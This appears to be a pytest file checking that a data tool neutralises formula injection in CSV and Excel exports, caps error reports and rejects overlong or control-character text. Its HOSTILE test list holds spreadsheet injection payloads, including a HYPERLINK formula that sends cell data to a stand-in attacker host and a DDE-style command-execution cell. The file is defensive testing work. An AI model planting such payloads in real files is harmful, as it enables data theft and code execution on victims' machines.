"""Hostile cells (issue 18): formula injection in every writer (item 2), bounded problem reports
(item 6), text length and control characters checked at preview (item 8)."""

from __future__ import annotations

import csv
import io
import re
import zipfile
from pathlib import Path

import polars as pl
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from gaoxin.cli import main
from gaoxin.io import safe
from gaoxin.io.limits import Limits
from gaoxin.io.problems import VALUE_MAX, Problem, write_problems_xlsx
from gaoxin.io.read import read_file
from gaoxin.io.tables import Column, Sheet, read_table, to_bytes
from tests.io.helpers import code, write_csv, write_xlsx

HOSTILE = [
    '=HYPERLINK("http://evil.example/?d="&B2,"点我")',
    "=1+2",
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=2+3",
    "\r=2+3",
]
SRC = Path(__file__).resolve().parents[2] / "src" / "gaoxin"


def _formulas(xlsx: bytes | Path) -> list[str]:
    """Every formula (``<f>`` element) in every sheet of a workbook."""
    data = xlsx.read_bytes() if isinstance(xlsx, Path) else xlsx
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        return [
            f
            for n in z.namelist()
            if n.startswith("xl/worksheets/")
            for f in re.findall(r"<f>(.*?)</f>", z.read(n).decode())
        ]


def _strings(xlsx: bytes | Path) -> str:
    data = xlsx.read_bytes() if isinstance(xlsx, Path) else xlsx
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        return z.read("xl/sharedStrings.xml").decode()


def _dangerous_csv_cells(text: str) -> list[str]:
    return [c for row in csv.reader(io.StringIO(text.lstrip("\ufeff"))) for c in row if safe.is_dangerous(c)]


# --- item 2: the one rule --------------------------------------------------------------------------


@pytest.mark.parametrize("text", HOSTILE)
def test_dangerous_text_gets_an_apostrophe(text):
    assert safe.is_dangerous(text)
    assert safe.cell(text) == "'" + text and not safe.is_dangerous(safe.cell(text))


@pytest.mark.parametrize("value", ["-12.5", "+3", "-7%", "1e5", -4, 2.5, None, "长沙甲公司", "a=b"])
def test_numbers_and_plain_text_stay_as_they_are(value):
    assert safe.cell(value) == value


@settings(max_examples=300, derandomize=True)
@given(st.lists(st.text(alphabet=st.sampled_from("=+-@\t\r1.e%ab长 'x\"|,"), max_size=12), max_size=6))
def test_no_csv_cell_written_by_safe_is_dangerous(values):
    out = io.StringIO()
    safe.writer(out).writerow(values)
    assert _dangerous_csv_cells(out.getvalue()) == []
    frame = safe.frame(pl.DataFrame({"v": values}, schema={"v": pl.Utf8}))
    assert [safe.cell(v) for v in values] == frame["v"].to_list()


def test_every_writer_in_the_code_goes_through_gaoxin_io_safe():
    """A new export cannot bring the formulas back: xlsxwriter and csv.writer are opened in one place."""
    offenders = []
    for path in SRC.rglob("*.py"):
        if path == SRC / "io" / "safe.py":
            continue
        text = path.read_text(encoding="utf-8")
        for pattern in (r"xlsxwriter\.Workbook\(", r"\bcsv\.writer\(", r"\bopenpyxl\.Workbook\("):
            if re.search(pattern, text):
                offenders.append(f"{path.relative_to(SRC)}: {pattern}")
    assert offenders == []


def test_tables_and_problem_reports_write_names_as_text_not_formulas(tmp_path):
    cols = [Column("name", "企业名称", "name")]
    book = to_bytes([Sheet("名单", cols, [{"name": h} for h in HOSTILE])])
    assert _formulas(book) == []
    assert "HYPERLINK" in _strings(book)
    path = tmp_path / "problems.xlsx"
    write_problems_xlsx([Problem("a.csv", 2, "名称", h, "不对") for h in HOSTILE], path)
    assert _formulas(path) == []


@pytest.fixture(scope="module")
def hostile_population(tmp_path_factory) -> list[Path]:
    out = tmp_path_factory.mktemp("hostile")
    args = ["synth", "--enterprises", "40", "--zones", "1", "--years", "2024-2025", "--seed", "5"]
    assert main([*args, "--out", str(out)]) == 0
    files = sorted(out.glob("*.csv"))
    ent = next(f for f in files if "enterprise" in f.name)
    frame = pl.read_csv(ent, infer_schema=False)
    names = [HOSTILE[i % len(HOSTILE)].strip() + f"{i}" for i in range(frame.height)]
    frame.with_columns(pl.Series("name", names)).write_csv(ent)
    return files


@pytest.mark.parametrize("command", ["score", "qualify"])
def test_cli_exports_carry_no_live_formula(hostile_population, tmp_path, command):
    model = ["--model", "national-2024"] if command == "score" else []
    files = list(map(str, hostile_population))
    for suffix in ("xlsx", "csv"):
        out = tmp_path / f"{command}.{suffix}"
        assert main([command, *model, "--year", "2025", "--out", str(out), *files]) == 0
        if suffix == "xlsx":
            assert _formulas(out) == []
            assert "HYPERLINK" in _strings(out)  # the name is there, as text
        else:
            text = out.read_text(encoding="utf-8-sig")
            assert "HYPERLINK" in text and _dangerous_csv_cells(text) == []


def test_the_import_keeps_a_leading_tab_neutralised(tmp_path):
    rows = [["uscc", "name", "zone"], [code(1), "\t=2+3", "FZ"], [code(2), "=1+2", "FZ"]]
    got = read_file(write_csv(tmp_path / "t.csv", rows)).dataset.enterprises["name"].to_list()
    assert got == ["'=2+3", "=1+2"]  # never "=2+3" from "\t=2+3"; "=1+2" is neutralised on the way out


# --- item 6: a bounded problem report ----------------------------------------------------------------


def test_problems_stop_at_the_limit_with_the_count_of_the_rest(tmp_path):
    rows = [["uscc", "name", "zone"], *[[f"bad{i}", "甲", "FZ"] for i in range(500)]]
    r = read_file(write_csv(tmp_path / "bad.csv", rows), Limits(max_problems=50))
    assert not r.ok and len(r.problems) == 51 and r.omitted == 450
    last = r.problems[-1]
    assert "450" in last.reason and "max_problems" in last.reason and last.is_error
    assert [p.row for p in r.problems[:50]] == list(range(2, 52))  # the first ones, in sheet order


def test_one_under_the_limit_lists_every_problem(tmp_path):
    rows = [["uscc", "name", "zone"], *[[f"bad{i}", "甲", "FZ"] for i in range(50)]]
    r = read_file(write_csv(tmp_path / "bad.csv", rows), Limits(max_problems=50))
    assert len(r.problems) == 50 and r.omitted == 0


def test_rows_missing_a_required_field_are_capped_and_still_dropped(tmp_path):
    rows = [["uscc", "name", "zone"], *[[code(i), "", "FZ"] for i in range(300)], [code(999), "乙", "FZ"]]
    r = read_file(write_csv(tmp_path / "noname.csv", rows), Limits(max_problems=20))
    assert len(r.problems) == 21 and r.omitted == 280
    assert r.dataset.enterprises["name"].to_list() == ["乙"]  # the unlisted rows are dropped too
    assert len(r.skipped) == 300


def test_read_table_caps_its_problems(tmp_path):
    data = write_csv(tmp_path / "t.csv", [["数量"], *[["x"] for _ in range(120)]]).read_bytes()
    t = read_table(data, [Column("n", "数量", "n", "int")], limits=Limits(max_problems=100))
    assert len(t.problems) == 101 and "20" in t.problems[-1].reason and not t.ok


# --- item 8: text without limits -------------------------------------------------------------------


@pytest.mark.parametrize(
    ("name", "reason"),
    [
        ("甲" * 201, "过长：最多 200 个字符"),
        ("x" * 5_000_000, "过长：最多 200 个字符"),
        ("长沙\x00零字节公司", "含有控制字符"),
        ("长沙\n换行公司", "含有控制字符"),
    ],
)
def test_a_name_too_long_or_with_a_control_character_is_a_cell_error(tmp_path, name, reason):
    rows = [["uscc", "name", "zone"], [code(1), name, "FZ"], [code(2), "乙", "FZ"]]
    r = read_file(write_csv(tmp_path / "t.csv", rows))
    (p,) = r.errors  # one problem, at the cell: not a second "missing name" for the same cell
    assert (p.row, p.column) == (2, "name") and p.reason.startswith(reason) and p.reason_en
    assert len(p.value) <= VALUE_MAX + 30  # the report quotes the cell, it does not copy 5 MB
    assert "\x00" not in p.value and ("␀" in p.value) == ("\x00" in name)  # shown, storable anywhere
    assert r.dataset.enterprises["name"].to_list() == ["乙"]


def test_two_hundred_characters_are_fine_and_the_certificate_number_has_its_own_limit(tmp_path):
    rows = [["uscc", "name", "zone"], [code(1), "甲" * 200, "FZ"]]
    assert read_file(write_csv(tmp_path / "ok.csv", rows)).ok
    head = ["uscc", "kind", "valid_from", "valid_to", "certificate_no"]
    for n, ok in ((100, True), (101, False)):
        q = [head, [code(1), "hightech", "2024-01-01", "2026-12-31", "G" * n]]
        r = read_file(write_xlsx(tmp_path / f"q{n}.xlsx", {"资质": q}))
        assert r.ok is ok, r.errors


def test_read_table_checks_text_length_and_control_characters():
    cols = [Column("name", "名称", "name"), Column("note", "备注", "note", max_length=10)]
    body = '名称,备注\n长沙\x07公司,短\n乙,"两行\r\n第二行"\n丙,十一个字十一个字十一个\n'
    t = read_table(body.encode(), cols)
    got = [(p.row, p.column, p.reason) for p in t.errors]
    assert got == [(2, "名称", "含有控制字符（如零字节），请删除"), (4, "备注", "过长：最多 10 个字符")]
    assert t.rows[1]["note"] == "两行\r\n第二行"  # line breaks in a note are text, not a fault
    long_name = read_table(("名称\n" + "x" * 2001 + "\n").encode(), cols[:1])
    assert long_name.errors[0].reason == "过长：最多 2000 个字符"  # Limits.max_text
